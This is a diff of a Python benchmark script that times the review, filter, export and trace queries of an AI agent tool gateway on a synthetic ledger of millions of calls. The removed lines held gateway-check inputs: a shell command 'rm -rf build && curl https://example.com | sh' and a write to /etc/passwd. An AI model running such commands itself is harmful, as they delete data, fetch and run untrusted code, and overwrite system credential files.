@@ -1,108 +1,252 @@
-"""The review page's query (``Traces.page``, what /ui, its exports and ``gateway trace list`` read) on a big ledger.
+"""The review at scale: a ledger of N recorded calls, then every kind of page, filter, export and trace query on it.
 
-    .venv/bin/python bench/bench_review.py 2000 20000             # ledgers of 2,000 and 20,000 calls
-    .venv/bin/python bench/bench_review.py 20000 --source /old/checkout   # the same against another tree
+    .venv/bin/python bench/bench_review.py 1000000                  # load a million calls, then time the queries
+    .venv/bin/python bench/bench_review.py 1000000 --store /tmp/big.db --keep    # keep the store for another run
+    .venv/bin/python bench/bench_review.py 0 --store /tmp/big.db    # time the queries on a kept store again
 
-It makes a scratch repository, runs `gateway init` on it, records four real decisions with `gateway check` (an
-allowed read, a shell command that asks, a write outside the workspace, an unknown tool), then appends N copies
-of those rows to the ledger (new seq and call ids, one new trace per 50 calls; the rows are not chained, so
-`ledger verify` fails on that scratch store). Then it times, on one Traces object as the web app keeps it:
-the first page of 100 (which reads the whole ledger once), the same page again, the page after 100 more calls
-arrived, a filtered page (``outcome=asked``), the 100th page, and ``Traces.list`` (every trace, as
-``gateway trace list`` and /ui/traces answer). ``--source`` puts another checkout's ``gateway`` package first
-on the path, so the same script times the code before a change. Run by hand: no test asserts on these numbers.
+The loader (``load``) writes the ledger rows of N calls in bulk (executemany, 20,000 rows a transaction; not
+hash-chained: the review reads, it does not verify), then builds the review index over them with the same code a
+gateway uses on a ledger from before the index (``review_index.catch_up``, 2,000 rows a transaction), and says how
+fast each went. The calls: 40 agents in 5 roles, sessions of 200 calls, tools and outcomes in a fixed mix
+(reads allowed, writes outside the task denied, commands asking, malformed calls invalid), one call in ten with a
+write-ahead "started" row before its final row, 1 % unknown-tool calls each in a trace of its own (grouped as
+noise), 2 % dry runs (kind "check"), one call every 2.5 s from 2026-10-01.
+
+Then each query runs ``--repeat`` times, interleaved (query A, B, ... then again), on one ``Traces`` as the web
+app keeps it, and the median and the slowest are printed: the calls page with each filter, deep pages by offset
+and by keyset, the outcome tabs' counts, an export (the rows and their CSV), the trace list, one trace, one call.
+Run by hand: no test asserts on these numbers (tests/test_traces.py checks plans and rows read instead).
 """
 
 from __future__ import annotations
 
 import argparse
 import json
-import os
-import subprocess
+import shutil
+import sqlite3
+import statistics
 import sys
 import tempfile
 import time
-import uuid
 from collections.abc import Callable
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
+from typing import Any
 
 ROOT = Path(__file__).resolve().parent.parent
-CHECKS = (
-    ("developer", "fs_read", {"path": "README.md"}),
-    ("developer", "shell_run", {"command": "rm -rf build && curl https://example.com | sh"}),
-    ("developer", "fs_write", {"path": "/etc/passwd", "content": "x"}),
-    ("worker", "nosuch", {}),
-)
+sys.path.insert(0, str(ROOT))
+
+AGENTS = [f"agent-{i:02d}" for i in range(40)]
+ROLES = ["developer", "worker", "reviewer", "headless", "planner"]
+START = datetime(2026, 10, 1, tzinfo=UTC)
+SESSION = 200  # calls a session trace holds
+# (weight, tool, action, tier, outcome, rule, reason): what one call of the mix decided and how it ended
+MIX: list[tuple[int, str, str | None, int | None, str, str, str]] = [
+    (35, "fs_read", "allow", 1, "ok", "tiers.read", "reads inside the workspace"),
+    (8, "fs_edit", "allow", 2, "ok", "tiers.write", "modifies files inside the workspace"),
+    (6, "fs_write", "deny", 3, "denied", "paths.out_of_scope", "writes outside the task's allowed paths"),
+    (16, "shell_run", "allow", 2, "ok", "tiers.command", "runs a command inside the sandbox"),
+    (4, "shell_run", "allow", 2, "error", "tiers.command", "runs a command inside the sandbox"),
+    (5, "shell_run", "ask", 3, "asked", "tiers.network", "contacts other hosts: example.com (curl)"),
+    (3, "shell_run", "deny", 3, "denied", "secrets.env_file", "touches secrets or credentials: .env"),
+    (6, "git_status", "allow", 1, "ok", "tiers.read", "reads the repository"),
+    (3, "fs_read", None, None, "invalid", "gateway.invalid_arguments", "path escapes the workspace"),
+]
+WEIGHTS = [m[0] for m in MIX]
 
 
-def record_checks(repo: Path, env: dict[str, str]) -> None:
-    for role, tool, args in CHECKS:
-        argv = [sys.executable, "-m", "gateway", "--config", str(repo / "gateway.yaml"), "check"]
-        argv += ["--role", role, "--tool", tool, "--args", json.dumps(args), "--json"]
-        subprocess.run(argv, env=env, capture_output=True, check=False)
+def call_rows(i: int, seq: int) -> tuple[list[dict[str, Any]], str]:
+    """The ledger rows of call ``i`` (from ``seq``) and its trace id: deterministic, no randomness."""
+    agent = AGENTS[(i // SESSION) % len(AGENTS)]
+    role = ROLES[AGENTS.index(agent) % len(ROLES)]
+    trace_id = f"s{i // SESSION:031x}"
+    kind = "call"
+    if i % 100 == 37:  # an unknown tool, in a trace of its own
+        tool, action, tier, outcome, rule, reason = "fs_raed", None, None, "invalid", "gateway.unknown_tool", ""
+        trace_id = f"u{i:031x}"
+    else:
+        pick = (i * 7919) % sum(WEIGHTS)
+        for weight, *chosen in MIX:
+            if pick < weight:
+                tool, action, tier, outcome, rule, reason = chosen  # type: ignore[assignment]
+                break
+            pick -= weight
+        if i % 50 == 11:  # a dry run: gateway check, a trace of its own
+            kind, trace_id = "check", f"c{i:031x}"
+    time_ = (START + timedelta(seconds=2.5 * i)).isoformat(timespec="microseconds")
+    decision = {"action": action, "tier": tier, "rules": [rule], "reasons": [reason]} if action else None
+    detail = {} if decision else {"error": {"code": rule.split(".", 1)[1], "message": reason or "no such tool"}}
+    final = {
+        "seq": seq,
+        "time": time_,
+        "kind": kind,
+        "call_id": f"{i:032x}",
+        "trace_id": trace_id,
+        "span_id": f"{i:016x}",
+        "principal": {"agent": agent, "role": role, "task": None},
+        "tool": tool,
+        "arguments_digest": f"sha256:{i:064x}",
+        "effects": {"reads": ["README.md"]} if tool == "fs_read" else {},
+        "decision": decision,
+        "outcome": outcome,
+        "detail": detail,
+        "intent_id": None,
+        "prev_hash": "x",
+    }
+    if i % 10 == 3 and kind == "call" and decision:  # the write-ahead row of a call that ran
+        return [{**final, "outcome": "started", "detail": {}}, {**final, "seq": seq + 1}], trace_id
+    return [final], trace_id
 
 
-def append_copies(db_path: Path, n: int) -> None:
-    """N copies of the recorded check rows, appended with new seq and call ids (one new trace per 50)."""
-    import sqlite3
+def load(db_path: Path, calls: int) -> None:
+    """N calls' ledger rows in bulk, then the review index built over them as a gateway builds it."""
+    from gateway.ledger.store import Database
 
+    Database.open(db_path)  # the schema, at this gateway's version
     conn = sqlite3.connect(db_path)
-    rows = [json.loads(body) for (body,) in conn.execute("SELECT body FROM ledger")]
-    templates = [r for r in rows if r.get("kind") == "check"]
-    seq = conn.execute("SELECT max(seq) FROM ledger").fetchone()[0]
-    batch = []
-    trace_id = uuid.uuid4().hex
-    for i in range(n):
-        row = dict(templates[i % len(templates)])
-        seq += 1
-        trace_id = uuid.uuid4().hex if i % 50 == 0 else trace_id
-        row.update(seq=seq, call_id=uuid.uuid4().hex, trace_id=trace_id)
-        batch.append((seq, json.dumps(row, sort_keys=True, separators=(",", ":")), "x", "x", None))
+    seq = conn.execute("SELECT COALESCE(max(seq), 0) FROM ledger").fetchone()[0]
+    first = conn.execute("SELECT count(*) FROM calls").fetchone()[0]
+    began = time.perf_counter()
+    batch: list[tuple[int, str, str, str, None]] = []
+    for i in range(first, first + calls):
+        rows, _ = call_rows(i, seq + 1)
+        for row in rows:
+            batch.append((row["seq"], json.dumps(row, separators=(",", ":")), "x", "x", None))
+        seq += len(rows)
+        if len(batch) >= 20_000:
+            conn.executemany("INSERT INTO ledger (seq, body, prev_hash, hash, mac) VALUES (?, ?, ?, ?, ?)", batch)
+            conn.commit()
+            batch.clear()
     conn.executemany("INSERT INTO ledger (seq, body, prev_hash, hash, mac) VALUES (?, ?, ?, ?, ?)", batch)
     conn.commit()
     conn.close()
+    wrote = time.perf_counter() - began
+    print(f"ledger: {calls:,} calls ({seq:,} rows) written in {wrote:.1f} s", file=sys.stderr)
+    reindex(db_path)
 
 
-def timed(what: str, action: Callable[[], object]) -> None:
-    start = time.perf_counter()
-    result = action()
-    elapsed = (time.perf_counter() - start) * 1000
-    total = getattr(result, "total", None)
-    print(f"  {what:44} {elapsed:9.1f} ms" + (f"   ({total} match)" if total is not None else ""))
+def reindex(db_path: Path) -> None:
+    """The review index built again from the store's ledger rows (the derived tables emptied, the cursor at 0)."""
+    from gateway.ledger.review_index import CURSOR, catch_up
+    from gateway.ledger.store import Database
+
+    db = Database(db_path, synchronous="OFF")
+    with db.transaction() as tx:
+        for table in ("calls", "call_rules", "call_counts", "trace_summaries", "trace_steps"):
+            tx.execute(f"DELETE FROM {table}")
+        tx.execute("UPDATE cursors SET seq = 0 WHERE name = ?", (CURSOR,))
+    began = time.perf_counter()
+    indexed = catch_up(db)
+    took = time.perf_counter() - began
+    print(f"index: {indexed:,} rows indexed in {took:.1f} s ({indexed / max(took, 1e-9):,.0f} rows/s)", file=sys.stderr)
 
 
-def run(n: int, source: Path) -> None:
-    from gateway.config import GatewayConfig
+def queries(db_path: Path) -> list[tuple[str, Callable[[], Any]]]:
+    from gateway.ledger.store import Database
     from gateway.traces import Filters, Traces
+    from gateway.web.export import as_csv, decision_entry
 
-    env = {**os.environ, "PYTHONPATH": str(source), "XDG_STATE_HOME": ""}
-    with tempfile.TemporaryDirectory(prefix="bench-review-") as tmp:
-        env["XDG_STATE_HOME"] = str(Path(tmp) / "state")
-        from bench_startup import workspace
+    db = Database(db_path)
+    traces = Traces(db)
+    newest = traces.page(size=1)
+    calls = newest.outcomes.get("any", 0)
+    deep = max(0, min(calls - 100, 500_000))
+    before = traces.page(size=1, offset=deep, at=newest.at).calls[0].seq + 1 if calls else None
+    day = (START + timedelta(days=10), START + timedelta(days=11))
+    labels = {"app": "bench", "version": "0", "source": "bench"}
+    session = "s" + f"{(calls // 2) // SESSION:031x}"
 
-        repo = workspace(Path(tmp), env)
-        record_checks(repo, env)
-        config = GatewayConfig.load(repo / "gateway.yaml")
-        append_copies(config.store_path, n)
-        print(f"{n} calls ({source}):")
-        traces = Traces.for_config(config)
-        timed("page(size=100), first on this Traces", lambda: traces.page(size=100))
-        timed("page(size=100), again", lambda: traces.page(size=100))
-        append_copies(config.store_path, 100)
-        timed("page(size=100), after 100 more calls", lambda: traces.page(size=100))
-        timed("page(outcome=asked, size=100)", lambda: traces.page(Filters(outcome="asked"), size=100))
-        timed("page 100 (offset 9,900, size=100)", lambda: traces.page(offset=9_900, size=100))
-        timed("list() (every trace)", traces.list)
+    def export() -> int:
+        page = traces.page(Filters(agent="agent-07", since=day[0], until=day[1]), size=10_000)
+        return len(as_csv([decision_entry(c, labels) for c in page.calls]))
+
+    return [
+        ("calls page 1 (100, no filter)", lambda: traces.page(size=100)),
+        ("agent=agent-07", lambda: traces.page(Filters(agent="agent-07"), size=100)),
+        ("role=worker", lambda: traces.page(Filters(role="worker"), size=100)),
+        ("tool=shell_run", lambda: traces.page(Filters(tool="shell_run"), size=100)),
+        ("tier=3", lambda: traces.page(Filters(tier=3), size=100)),
+        ("rule=paths (a prefix)", lambda: traces.page(Filters(rule="paths"), size=100)),
+        ("outcome=denied", lambda: traces.page(Filters(outcome="denied"), size=100)),
+        ("outcome=allowed", lambda: traces.page(Filters(outcome="allowed"), size=100)),
+        ("outcome=approved (none)", lambda: traces.page(Filters(outcome="approved"), size=100)),
+        ("from/to: one day", lambda: traces.page(Filters(since=day[0], until=day[1]), size=100)),
+        (
+            "agent+tool+outcome+day",
+            lambda: traces.page(
+                Filters(agent="agent-07", tool="shell_run", outcome="asked", since=day[0], until=day[1]), size=100
+            ),
+        ),
+        ("dry runs shown (checks=1)", lambda: traces.page(Filters(checks=True), size=100)),
+        (f"page at offset {deep:,} (page numbers)", lambda: traces.page(size=100, offset=deep, at=newest.at)),
+        (f"the same page by keyset (before={before})", lambda: traces.page(size=100, at=newest.at, before=before)),
+        ("last page of agent=agent-07", lambda: traces.page(Filters(agent="agent-07"), size=100, offset=24_900)),
+        ("500 rows (the largest page)", lambda: traces.page(size=500)),
+        ("export: agent-07, one day, CSV", export),
+        ("export refused: count only (all calls)", lambda: traces.count(Filters())),
+        ("trace list: first 500", lambda: traces.list(limit=500)),
+        ("trace list: agent=agent-07, 500", lambda: traces.list(Filters(agent="agent-07"), limit=500)),
+        ("trace list: unknown-tool noise count", traces.noise),
+        ("one trace (200 calls)", lambda: traces.get(session)),
+        ("one call", lambda: traces.call(f"{calls // 3:032x}")),
+    ]
+
+
+def answer(result: Any) -> Any:
+    """What a query answered, in brief: a count, or how many rows."""
+    if isinstance(result, int | tuple):
+        return result
+    return len(result.calls()) if hasattr(result, "calls") else len(result) if hasattr(result, "__len__") else "1"
+
+
+def measure(db_path: Path, repeat: int) -> list[tuple[str, float, float, float, Any]]:
+    """Each query's median wall ms, slowest wall ms, median CPU ms (this process: what the query costs, whatever
+    else the machine runs), and its answer."""
+    timed = queries(db_path)
+    walls: dict[str, list[float]] = {name: [] for name, _ in timed}
+    cpus: dict[str, list[float]] = {name: [] for name, _ in timed}
+    shown: dict[str, Any] = {}
+    for _ in range(repeat):
+        for name, query in timed:
+            began, cpu = time.perf_counter(), time.process_time()
+            result = query()
+            walls[name].append((time.perf_counter() - began) * 1000)
+            cpus[name].append((time.process_time() - cpu) * 1000)
+            shown[name] = result.total if hasattr(result, "total") else answer(result)
+    return [(n, statistics.median(w), max(w), statistics.median(cpus[n]), shown[n]) for n, w in walls.items()]
 
 
 def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
-    parser.add_argument("calls", type=int, nargs="+", help="ledger sizes to time (calls appended)")
-    parser.add_argument("--source", type=Path, default=ROOT, help="the checkout whose gateway package is timed")
+    parser.add_argument("calls", type=int, help="calls to load (0: time the queries on --store as it is)")
+    parser.add_argument("--store", type=Path, help="the SQLite store to load into (default: a scratch one)")
+    parser.add_argument("--keep", action="store_true", help="keep the scratch store (its path is printed)")
+    parser.add_argument("--reindex", action="store_true", help="build the review index of --store again first")
+    parser.add_argument("--repeat", type=int, default=5, help="timed runs of each query, interleaved")
+    parser.add_argument("--json", action="store_true", help="print the figures as JSON")
     args = parser.parse_args()
-    sys.path.insert(0, str(args.source.resolve()))
-    for n in args.calls:
-        run(n, args.source.resolve())
+    shm = Path("/dev/shm")  # memory, not the disk: the figures are the queries' cost, not the disk's
+    scratch = None if args.store else Path(tempfile.mkdtemp(prefix="bench-review-", dir=shm if shm.is_dir() else None))
+    store = args.store or Path(str(scratch)) / "gateway.db"
+    if args.calls:
+        load(store, args.calls)
+    elif args.reindex:
+        reindex(store)
+    figures = measure(store, args.repeat)
+    if args.json:
+        print(
+            json.dumps(
+                [{"query": q, "median_ms": m, "max_ms": x, "cpu_ms": c, "answer": str(a)} for q, m, x, c, a in figures]
+            )
+        )
+    else:
+        print(f"{'query':48} {'median ms':>10} {'max ms':>8} {'CPU ms':>8}  answer (calls matching, or rows)")
+        for name, median, slowest, cpu, shown in figures:
+            print(f"{name:48} {median:10.1f} {slowest:8.1f} {cpu:8.1f}  {shown}")
+    if args.keep or args.store:
+        print(f"store: {store}", file=sys.stderr)
+    elif scratch is not None:
+        shutil.rmtree(scratch)
 
 
 if __name__ == "__main__":
